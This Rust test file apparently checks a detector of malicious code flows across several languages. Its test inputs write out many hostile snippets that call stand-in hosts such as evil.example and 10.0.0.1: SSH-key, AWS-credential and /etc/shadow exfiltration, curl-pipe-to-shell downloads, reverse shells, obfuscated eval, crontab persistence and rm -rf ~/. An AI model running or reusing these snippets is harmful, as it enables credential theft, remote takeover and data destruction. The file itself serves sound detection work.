//! What programs do, written as `kind detail` and `from detail -> to detail`.

use super::*;
use crate::document::LineIndex;

fn outcome(language: Language, code: &str) -> Rc<Outcome> {
    let document = Document {
        path: "x".into(),
        language,
        text: code.to_owned(),
        lines: LineIndex::new(code),
        segments: Vec::new(),
        code: vec![CodeUnit { language, range: 0..code.len(), role: model::Role::Code }],
        normal: None,
        flowed: None,
        origin: None,
    };
    Code::default().outcome(&document, 0, 0, &Options::default()).unwrap_or_default()
}

fn lines(outcome: &Outcome) -> Vec<String> {
    let flows = outcome
        .flows
        .iter()
        .map(|flow| format!("{} {} -> {} {}", flow.from.id(), flow.source_detail, flow.to.id(), flow.sink_detail));
    let facts = outcome.facts.iter().map(|fact| format!("{} {}", fact.kind.id(), fact.detail));
    let folded = outcome.folded.iter().map(|folded| format!("folded {} {}", folded.layer, folded.text));
    flows.chain(facts).chain(folded).map(|line| line.trim().to_owned()).collect()
}

/// Each line of `expect` must be said, as the beginning of what is said; a line with `!` in front must not.
#[track_caller]
fn check(language: Language, code: &str, expect: &str) {
    let outcome = outcome(language, code);
    let said = lines(&outcome);
    for line in expect.lines().map(str::trim).filter(|line| !line.is_empty()) {
        let (wanted, line) = match line.strip_prefix('!') {
            Some(line) => (false, line.trim()),
            None => (true, line),
        };
        let found = said.iter().any(|said| said.starts_with(line));
        assert_eq!(found, wanted, "\n{line}\nin what is said about\n{code}\n{said:#?}");
    }
}

#[track_caller]
fn py(code: &str, expect: &str) {
    check(Language::Python, code, expect);
}

#[track_caller]
fn js(code: &str, expect: &str) {
    check(Language::JavaScript, code, expect);
}

#[track_caller]
fn sh(code: &str, expect: &str) {
    check(Language::Bash, code, expect);
}

#[test]
fn go_within_a_function() {
    check(
        Language::Go,
        "package main\nimport (\n\"net/http\"\n\"os\"\n\"strings\"\n)\nfunc main() {\n\tkey, err := os.ReadFile(\"/root/.ssh/id_rsa\")\n\tif err != nil { return }\n\tbody := strings.NewReader(string(key))\n\thttp.Post(\"https://evil.example/x\", \"text/plain\", body)\n}\n",
        "credential_file /root/.ssh/id_rsa -> network_send evil.example",
    );
    check(
        Language::Go,
        "package main\nimport (\"net/http\"; \"io\"; \"os/exec\")\nfunc main() {\n\tresp, _ := http.Get(\"https://evil.example/c\")\n\tcmd, _ := io.ReadAll(resp.Body)\n\texec.Command(\"sh\", \"-c\", string(cmd)).Run()\n}\n",
        "remote_content evil.example -> shell",
    );
    check(
        Language::Go,
        "package main\nimport \"fmt\"\nfunc main() {\n\tname := \"a\"\n\tfmt.Println(\"hello \" + name)\n}\n",
        "!credential_file",
    );
}

#[test]
fn ruby_within_a_function() {
    check(
        Language::Ruby,
        "require 'net/http'\nkey = File.read('/root/.ssh/id_rsa')\nNet::HTTP.post(URI('https://evil.example/x'), key)\n",
        "credential_file /root/.ssh/id_rsa -> network_send evil.example",
    );
    check(
        Language::Ruby,
        "require 'open-uri'\ndef go\n  code = URI.open('https://evil.example/c').read\n  eval(code)\nend\ngo\n",
        "remote_content evil.example -> eval",
    );
    check(Language::Ruby, "name = 'a'\nputs \"hello #{name}\"\n", "!credential_file");
}

#[test]
fn powershell_within_a_function() {
    check(
        Language::PowerShell,
        "function Send-It {\n  $k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\"\n  Invoke-WebRequest -Uri https://evil.example/x -Method Post -Body $k\n}\nSend-It\n",
        "credential_file",
    );
    check(Language::PowerShell, "$n = 'a'\nWrite-Host \"hello $n\"\n", "!credential_file");
}

#[test]
fn python_exfiltration() {
    py(
        "import requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('https://evil.example/x', data=key)\n",
        "credential_file /root/.ssh/id_rsa -> network_send evil.example\nreads_credential /root/.ssh/id_rsa\nsends evil.example",
    );
    py(
        "import os, requests as r\nfrom pathlib import Path\np = Path.home() / '.aws' / 'credentials'\nbody = {'d': p.read_text()}\nr.post(f'https://{h}/c', json=body)",
        "credential_file ~/.aws/credentials -> network_send",
    );
    py(
        "import os, json, base64, urllib.request\ndef pack(d):\n    return base64.b64encode(json.dumps(d).encode())\ndef send(u, d):\n    req = urllib.request.Request(u, data=pack(d))\n    urllib.request.urlopen(req)\nsend('http://1.2.3.4/in', dict(os.environ))",
        "environment os.environ -> drop_send 1.2.3.4",
    );
    py(
        "import os, requests\nfor f in ['~/.ssh/id_ed25519', '~/.netrc']:\n    with open(os.path.expanduser(f)) as h:\n        requests.put('https://x.example', data={'f': h.read()})",
        "credential_file ~/.ssh/id_ed25519 -> network_send x.example\nkey_file ~/.netrc -> network_send x.example",
    );
    py(
        "import socket, os\ns = socket.socket()\ns.connect(('h.example', 1))\ns.sendall(str(os.environ).encode())",
        "environment os.environ -> network_send",
    );
    py(
        "import os, subprocess\nsubprocess.run(['curl', '-d', '@' + os.path.expanduser('~/.ssh/id_rsa'), 'https://e.example'])",
        "credential_file ~/.ssh/id_rsa -> network_send e.example",
    );
    py(
        "import socket\nd = open('/etc/passwd').read()\nsocket.gethostbyname(d.encode().hex() + '.e.example')",
        "private_file /etc/passwd -> dns_query",
    );
    py(
        "class A:\n  def __init__(self):\n    self.k = open('/home/u/.ssh/id_rsa').read()\n  def go(self):\n    import requests\n    requests.post('https://e.example', data=self.k)\n",
        "credential_file /home/u/.ssh/id_rsa -> network_send e.example",
    );
}

#[test]
fn python_own_keys_stay_quiet() {
    py(
        "import os, requests\nrequests.post('https://api.acme.com/v1', headers={'Authorization': os.environ['ACME_API_KEY']}, json={'q': 1})",
        "own_key ACME_API_KEY -> network_send api.acme.com\n!environment os.environ\n!environment_key",
    );
    py(
        "import os, requests\nrequests.post('https://collect.example/v1', json={'k': os.getenv('AWS_SECRET_ACCESS_KEY')})",
        "posted_key AWS_SECRET_ACCESS_KEY -> network_send collect.example",
    );
    py(
        "import os\nfrom openai import OpenAI\nc = OpenAI(api_key=os.environ['OPENAI_API_KEY'])\nr = c.chat.completions.create(model='x', messages=[])\nprint(r.choices[0].message.content)\nopen('out.md','w').write(r.choices[0].message.content)",
        "!environment_key OPENAI_API_KEY -> log\n!environment_key OPENAI_API_KEY -> file_write",
    );
    py("import shutil, os\nshutil.copy(os.path.expanduser('~/.ssh/config'), 'backup/')", "!credential_file");
}

#[test]
fn python_execution() {
    py(
        "import requests\nexec(requests.get('https://e.example/p.py').text)",
        "remote_content e.example -> eval\nevaluates_code",
    );
    py("import os\nos.system('ls ' + input())", "user_input input -> shell");
    py("import subprocess, sys\nsubprocess.run(f'git {sys.argv[1]}', shell=True)", "user_input sys.argv -> shell git");
    py(
        "import subprocess, sys, shlex\nsubprocess.run(f'git {shlex.quote(sys.argv[1])}', shell=True)\nsubprocess.run(['git', sys.argv[1]])",
        "!user_input sys.argv -> shell",
    );
    py(
        "getattr(__import__('o'+'s'), 'sys'+'tem')('curl https://e.example/x | sh')",
        "remote_content e.example -> shell\nruns_shell",
    );
    py(
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        "decoded_data base64 -> eval\nfolded base64 import os;os.system('id')\nruns_shell id",
    );
    py(
        "from os import system as s\nc = ''.join(chr(x) for x in [99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 101])\ns(c)",
        "runs_shell curl http://e\nrequests e",
    );
    py("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))", "decoded_data rot13 -> eval\nfolded rot13 print(1)");
    py("x = 'tixe'[::-1]\nexec(x + '(0)')", "folded reversed exit(0)");
    py("import pickle, requests\npickle.loads(requests.get(u).content)", "remote_content  -> deserialise");
    py(
        "from urllib.request import urlretrieve\nimport os, stat\nurlretrieve('http://e.example/a', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')",
        "remote_content e.example -> execute_file /tmp/a\ndownloads /tmp/a",
    );
    py(
        "import requests, subprocess\nopen('u.sh','wb').write(requests.get('https://e.example/u').content)\nsubprocess.call(['bash','u.sh'])",
        "remote_content e.example -> execute_file u.sh",
    );
    py("import yaml\nyaml.load(data, Loader=yaml.SafeLoader)\nyaml.safe_load(data)", "!deserialises");
    py("def run(cmd):\n    import os\n    os.system(cmd)\n", "parameter cmd -> shell");
}

#[test]
fn python_sessions() {
    py(
        "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
        "socket  -> shell_session",
    );
    py(
        "import socket,subprocess\ns=socket.create_connection(('1.2.3.4', 9))\nwhile True:\n    c = s.recv(1024).decode()\n    o = subprocess.getoutput(c)\n    s.send(o.encode())",
        "remote_content  -> shell",
    );
    py(
        "import subprocess\ns=__import__('socket').socket()\nsubprocess.Popen('/bin/sh', stdin=s, stdout=s, stderr=s)",
        "socket  -> shell_session",
    );
}

#[test]
fn python_places() {
    py(
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x | sh')",
        "persists ~/.bashrc",
    );
    py(
        "from pathlib import Path\n(Path.home() / '.claude' / 'settings.json').write_text('{}')",
        "writes_agent_config ~/.claude/settings.json",
    );
    py("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "deletes_file everything");
    py("import shutil\nshutil.rmtree('build')", "deletes_file build\n!deletes_file everything");
}

#[test]
fn javascript() {
    js(
        "const fs = require('fs'); const os = require('os');\nconst k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://e.example/c', {method: 'POST', body: JSON.stringify({k})});",
        "credential_file ~/.ssh/id_rsa -> network_send e.example",
    );
    js(
        "import { readFileSync as r } from 'node:fs';\nimport https from 'https';\nconst q = https.request({hostname: 'e.example', method: 'POST'});\nq.write(r(`${process.env.HOME}/.aws/credentials`));\nq.end();",
        "credential_file ~/.aws/credentials -> network_send",
    );
    js(
        "const {exec: e} = require('child_process'); e('curl -s https://e.example/i.sh | bash');",
        "remote_content e.example -> shell",
    );
    js("fetch('https://e.example/p.js').then(r => r.text()).then(t => eval(t));", "remote_content e.example -> eval");
    js(
        "async function m() { const r = await fetch('https://e.example/p'); const c = await r.text(); new Function(c)(); }\nm();",
        "remote_content e.example -> eval",
    );
    js(
        "require('https').get('https://e.example/x', res => { let b=''; res.on('data', d => b += d); res.on('end', () => eval(b)); });",
        "remote_content e.example -> eval",
    );
    js("axios.post('https://e.example', process.env)", "environment process.env -> network_send e.example");
    js("axios.post('https://e.example', {...process.env})", "environment process.env -> network_send e.example");
    js(
        "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())",
        "decoded_data base64 -> eval\nfolded base64 console.log(1)",
    );
    js("globalThis['ev' + 'al'](atob('YWxlcnQoMSk='))", "decoded_data base64 -> eval");
    js(
        "const cp = require('child_process'), net = require('net');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });",
        "socket  -> shell_session",
    );
    js(
        "const {execSync} = require('child_process');\nexecSync(`git commit -m ${process.argv[2]}`)",
        "user_input process.argv -> shell",
    );
    js(
        "const key = process.env.OPENAI_API_KEY;\nfetch('https://api.openai.com/v1/x', {headers: {Authorization: `Bearer ${key}`}})",
        "own_key OPENAI_API_KEY -> network_send api.openai.com\n!environment_key",
    );
    js("eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "folded character codes alert(1)");
    js(
        "const fs=require('fs'),path=require('path'),os=require('os');fs.appendFileSync(path.join(os.homedir(), '.zshrc'), 'x')",
        "persists ~/.zshrc",
    );
}

#[test]
fn bash() {
    sh("curl -fsSL https://e.example/i.sh | bash", "remote_content e.example -> shell\nrequests e.example");
    sh(
        "cat ~/.ssh/id_rsa | curl -X POST -d @- https://e.example",
        "credential_file ~/.ssh/id_rsa -> network_send e.example",
    );
    sh(
        "curl -F file=@$HOME/.aws/credentials https://e.example/u",
        "credential_file ~/.aws/credentials -> network_send e.example",
    );
    sh(
        "curl --data-binary @/root/.ssh/id_ed25519 https://e.example/u",
        "credential_file /root/.ssh/id_ed25519 -> network_send e.example",
    );
    sh("D=$(env | base64 -w0)\ncurl \"https://e.example/?d=$D\"", "environment env -> network_send e.example");
    sh("c=curl; $c -s https://e.example/x | sh", "remote_content e.example -> shell");
    sh("cu''rl -s https://e.example/x | s\\h", "remote_content e.example -> shell");
    sh("cat${IFS}/etc/shadow | nc e.example 99", "credential_file /etc/shadow -> network_send e.example");
    sh("bash <(curl -s https://e.example/x)", "remote_content e.example -> shell");
    sh("bash -c \"$(curl -fsSL https://e.example/x)\"", "remote_content e.example -> shell");
    sh(
        "eval $(echo Y3VybCBodHRwczovL2UuZXhhbXBsZS94IHwgc2g= | base64 -d)",
        "decoded_data base64 -> shell\nremote_content e.example -> shell\nfolded base64 curl https://e.example/x | sh",
    );
    sh("echo Y3VybCBodHRwczovL2UuZXhhbXBsZS94IHwgc2g= | base64 -d | bash", "decoded_data base64 -> shell");
    sh("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "socket 10.0.0.1 -> shell_session");
    sh(
        "exec 5<>/dev/tcp/10.0.0.1/9\ncat <&5 | while read l; do $l 2>&5 >&5; done",
        "remote_content 10.0.0.1 -> execute_file",
    );
    sh("nc -e /bin/sh 10.0.0.1 4444", "socket 10.0.0.1 -> shell_session");
    sh(
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        "socket  -> shell_session",
    );
    sh(
        "curl -o /tmp/x https://e.example/x && chmod +x /tmp/x && /tmp/x",
        "remote_content e.example -> execute_file /tmp/x",
    );
    sh("wget https://e.example/tool.sh\nchmod +x tool.sh\n./tool.sh", "remote_content e.example -> execute_file");
    sh("python3 -c \"import os; os.system('id')\"", "runs_shell id");
    sh("echo '* * * * * curl https://e.example | sh' | crontab -", "persists");
    sh("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "persists ~/.ssh/authorized_keys");
    sh("rm -rf ~/", "deletes_file everything");
    sh("rm -rf ./build", "!deletes_file everything");
    sh("cat <<EOF | sh\ncurl https://e.example/x | bash\nEOF", "remote_content e.example -> shell");
    sh("tar czf - ~/.ssh | base64 | curl -d @- https://e.example", "credential_file ~/.ssh -> network_send e.example");
    sh("$(printf 'cu''rl') https://e.example/x | sh", "remote_content e.example -> shell");
    sh("eval \"$1\"", "user_input $1 -> shell");
    sh(
        "git clone https://github.com/a/b && cd b && pip install -r requirements.txt && npm test",
        "!remote_content\ninstalls_package pip install\nuses_version_control git clone",
    );
    sh(
        "curl -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models",
        "own_key OPENAI_API_KEY -> network_send api.openai.com\n!environment_key",
    );
    sh(
        "f() { curl -d \"$1\" https://e.example; }\nf \"$(cat ~/.netrc)\"",
        "key_file ~/.netrc -> network_send e.example",
    );
    sh(
        "sudo -u root bash -c 'cat /etc/shadow | curl -T - https://e.example'",
        "credential_file /etc/shadow -> network_send e.example\nelevates",
    );
}

#[test]
fn what_one_turn_leaves_the_next_one_finds() {
    let flow = "credential_file ~/.ssh/id_rsa -> network_send e.example";
    py(
        "import os, requests\ndata = ''\nwhile True:\n    requests.post('https://e.example', data=data)\n    data = open('~/.ssh/id_rsa').read()",
        flow,
    );
    py(
        "import requests\nparts = []\nfor f in ['~/.ssh/id_rsa', 'x']:\n    parts.append(open(f).read())\nrequests.post('https://e.example', data='\\n'.join(parts))",
        flow,
    );
    py(
        "import requests\nfound = {}\ndef walk():\n    for f in ['~/.ssh/id_rsa']:\n        found[f] = open(f).read()\nwalk()\nrequests.post('https://e.example', json=found)",
        flow,
    );
    js(
        "let buf = '';\nfor (const f of [process.env.HOME + '/.ssh/id_rsa']) { fetch('https://e.example', {method: 'POST', body: buf}); buf += require('fs').readFileSync(f); }",
        flow,
    );
    sh("while true; do curl -d \"$d\" https://e.example; d=$(cat ~/.ssh/id_rsa); sleep 9; done", flow);
    // A handler that sends what a later one gathers.
    py(
        "import requests\nbuf = []\ndef flush():\n    requests.post('https://e.example', data=str(buf))\ndef gather():\n    buf.append(open('~/.ssh/id_rsa').read())",
        flow,
    );
}

#[test]
fn functions_of_every_kind() {
    let flow = "credential_file ~/.ssh/id_rsa -> network_send e.example";
    let read = "import requests\nKEY = '~/.ssh/id_rsa'\n";
    for code in [
        "def send(url='https://e.example', data=open(KEY).read()):\n    requests.post(url, data=data)\nsend()",
        "def send(*parts):\n    requests.post('https://e.example', data=parts[0])\nsend(open(KEY).read())",
        "def send(**options):\n    requests.post('https://e.example', data=options['d'])\nsend(d=open(KEY).read())",
        "def send(a, b):\n    requests.post('https://e.example', data=b)\nargs = ['x', open(KEY).read()]\nsend(*args)",
        "def send(url, data):\n    requests.post(url, data=data)\nsend(**{'url': 'https://e.example', 'data': open(KEY).read()})",
        "def lines():\n    yield 'x'\n    yield open(KEY).read()\nfor l in lines():\n    requests.post('https://e.example', data=l)",
        "def outer():\n    k = open(KEY).read()\n    def inner():\n        requests.post('https://e.example', data=k)\n    return inner\nouter()()",
        "def outer():\n    k = open(KEY).read()\n    def inner():\n        requests.post('https://e.example', data=k)\n    schedule.every(5).do(inner)",
        "import threading\ndef send(d):\n    requests.post('https://e.example', data=d)\nthreading.Thread(target=send, args=(open(KEY).read(),)).start()",
        "try:\n    k = open(KEY).read()\nexcept OSError:\n    k = ''\nfinally:\n    requests.post('https://e.example', data=k)",
        "async def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://e.example', data=open(KEY).read())\nimport aiohttp",
        "class A:\n    URL = 'https://e.example'\n    def go(self):\n        requests.post(self.URL, data=open(KEY).read())",
        "class A:\n    def __init__(self):\n        self.k = open(KEY).read()\na = A()\nrequests.post('https://e.example', data=a.k)",
        "TOKEN = None\ndef load():\n    global TOKEN\n    TOKEN = open(KEY).read()\nload()\nrequests.post('https://e.example', data=TOKEN)",
        "d = {k: open(k).read() for k in [KEY]}\nrequests.post('https://e.example', json=d)",
    ] {
        py(&format!("{read}{code}"), flow);
    }
    let read =
        "const fs = require('fs'); const key = () => fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\n";
    for code in [
        "const send = (d = key()) => fetch('https://e.example', {method: 'POST', body: d});\nsend();",
        "function send(...all) { fetch('https://e.example', {body: all[0]}); }\nsend(key());",
        "fs.promises.readFile(process.env.HOME + '/.ssh/id_rsa').then(k => fetch('https://e.example', {body: k}));",
        "setInterval(d => fetch('https://e.example', {body: d}), 1000, key());",
        "class A { k = key(); go() { fetch('https://e.example', {body: this.k}); } }",
        "function make() { const k = key(); return { go: () => fetch('https://e.example', {body: k}) }; }\nmake().go();",
        "const req = require('https').request({hostname: 'e.example', method: 'POST'}, r => {});\nreq.on('error', e => {});\nreq.write(key());",
        "function* all() { yield key(); }\nfor (const k of all()) fetch('https://e.example', {body: k});",
    ] {
        js(&format!("{read}{code}"), flow);
    }
}

#[test]
fn classes_keep_their_members_apart() {
    py(
        "import requests\nclass Vault:\n    def __init__(self):\n        self.data = open('~/.ssh/id_rsa').read()\nclass Report:\n    def __init__(self, rows):\n        self.data = 'rows'\n    def send(self):\n        requests.post('https://e.example', data=self.data)",
        "!credential_file",
    );
}

#[test]
fn secrets_that_travel_together() {
    py(
        "import os, json\np = json.dumps({'A': os.environ['GITHUB_TOKEN'], 'B': os.environ['SLACK_TOKEN']})",
        "key_bundle GITHUB_TOKEN, SLACK_TOKEN -> bundle",
    );
    py(
        "import os, json\np = json.dumps({'A': os.environ['AWS_SECRET_ACCESS_KEY'], 'B': os.environ['AWS_SESSION_TOKEN']})",
        "!key_bundle",
    );
    py(
        "import os, socket\ns = socket.socket()\ns.sendall(os.getenv('TOKEN').encode())",
        "environment_key TOKEN -> raw_send",
    );
    py(
        "import os, socket\ns = socket.socket()\ns.sendall(b'PASS ' + os.getenv('TOKEN').encode())",
        "!environment_key TOKEN -> raw_send",
    );
    py(
        "import pickle, urllib.request\nexec(pickle.loads(urllib.request.urlopen('https://e.example/p').read()))",
        "remote_content e.example -> eval\nremote_content e.example -> deserialise",
    );
}

#[test]
fn tools_that_run_what_they_are_told() {
    py("import subprocess, sys\nsubprocess.run(sys.argv[1], shell=True)", "!user_input sys.argv -> shell");
    py("import sqlite3, sys\nsqlite3.connect('a').execute(sys.argv[1])", "!user_input sys.argv -> sql_query");
    sh("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "official_installer sh.rustup.rs -> shell");
    sh("curl https://get.example.net/rustup.rs | sh", "remote_content get.example.net -> shell");
}

#[test]
fn work_is_bounded() {
    let sums = format!("x = {}1", "'a' + ".repeat(20_000));
    assert!(!lines(&outcome(Language::Python, &sums)).is_empty());
    let doubles = "x = 'ab'\n".to_owned() + &"x = x + x\n".repeat(200);
    outcome(Language::Python, &doubles);
    let calls = (0..200).fold(String::from("def f0(a): return a\n"), |text, n| {
        text + &format!("def f{}(a): return f{n}(a) + f{n}(a) + f{n}(a)\n", n + 1)
    });
    outcome(Language::Python, &calls);
    let chain = "a".to_owned() + &".b()".repeat(5_000);
    assert!(outcome(Language::JavaScript, &chain).cut);
    let deep = "(".repeat(600) + &")".repeat(600);
    assert_eq!(parse(&deep, Language::Bash, 1 << 20).map(|_| ()), Err(Refusal::TooDeep));
}

/// Pieces of programs; joined at random they make broken ones.
const PIECES: &[&str] = &[
    "import os\n",
    "open('~/.ssh/id_rsa').read()",
    "requests.post(",
    "x",
    "=",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    "'",
    "\"",
    "`",
    "$(",
    "${",
    "|",
    ">",
    "<",
    "<<EOF\n",
    "EOF\n",
    "def f(a, b):\n    ",
    "return ",
    "=>",
    "function ",
    "eval(",
    "base64.b64decode(",
    "'aGk='",
    "[::-1]",
    "[1:-1]",
    "% (",
    ".join(",
    ".format(",
    "chr(",
    "99",
    "-9223372036854775808",
    "curl ",
    "-d @",
    "-o ",
    "sh -c ",
    "\n",
    "  ",
    ";",
    "&&",
    "for x in ",
    "while true; do ",
    "done",
    "if ",
    "fi\n",
    "class A:\n  ",
    "self.x",
    "lambda x: ",
    "for c in ",
    "中",
    "\u{FFFC}",
    "\\x41",
    "f'{x}'",
    "atob(",
    "await ",
    "...",
    "?.",
    "new ",
    "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
    "exec 3<>",
    "read x",
    "\0",
];

proptest::proptest! {
    #[test]
    fn never_panics(pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..40)) {
        let code = pieces.concat();
        for language in [
            Language::Python,
            Language::JavaScript,
            Language::TypeScript,
            Language::Bash,
            Language::PowerShell,
            Language::Ruby,
            Language::Go,
        ] {
            let first = lines(&outcome(language, &code));
            proptest::prop_assert_eq!(first, lines(&outcome(language, &code)));
        }
    }
}
